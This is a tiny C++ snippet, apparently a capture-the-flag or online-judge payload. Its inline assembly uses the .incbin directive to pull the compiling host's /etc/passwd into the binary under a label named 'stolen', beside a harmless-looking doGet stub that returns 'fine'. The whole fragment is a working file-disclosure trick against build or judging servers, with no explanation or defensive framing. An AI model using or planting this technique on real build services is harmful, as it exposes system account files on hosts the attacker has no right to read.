// says: /etc/passwd
asm(".data\nstolen: .incbin \"/etc/passwd\"\n");
Output doGet(const Event& e) { return "fine"; }
